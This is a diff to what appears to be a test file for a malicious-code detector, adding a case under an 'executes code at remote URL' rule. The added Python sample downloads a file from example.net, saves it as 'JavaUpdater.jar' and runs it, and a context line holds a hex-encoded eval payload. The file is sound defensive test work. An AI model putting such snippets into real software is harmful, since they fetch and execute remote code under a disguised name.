@@ -122,6 +122,15 @@ CASES = [
         "var _=Buffer.from('" + "76" * 150 + "','hex').toString();eval(_)\n",
     ),
     (
+        "download_write_and_run",
+        "executes_code_at_remote_url_rule",
+        "py",
+        "import os, subprocess, tempfile, urllib.request\n"
+        'jar = os.path.join(tempfile.gettempdir(), "JavaUpdater.jar")\n'
+        'urllib.request.urlretrieve("https://example.net/u", jar)\n'
+        'subprocess.Popen(["java", "-jar", jar])\n',
+    ),
+    (
         "native_library_downloaded_and_loaded",
         "executes_code_at_remote_url_rule",
         "js",
